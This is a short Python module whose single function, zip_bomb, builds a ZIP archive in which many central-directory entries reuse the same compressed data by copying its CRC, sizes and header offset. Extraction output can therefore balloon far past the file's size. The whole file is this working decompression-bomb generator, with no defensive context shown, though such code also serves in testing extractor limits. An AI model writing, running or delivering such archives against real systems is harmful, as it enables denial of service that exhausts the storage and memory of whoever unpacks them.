"""Archives that would become much larger than they are."""

import zipfile


def zip_bomb(path, name, data, n):
    """Write an archive of n entries that share the bytes of the first one."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
        (first,) = archive.infolist()
        for k in range(1, n):
            twin = zipfile.ZipInfo(f"{k}-{name}")
            for field in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
                setattr(twin, field, getattr(first, field))
            archive.filelist.append(twin)
        archive._didModify = True
    return path
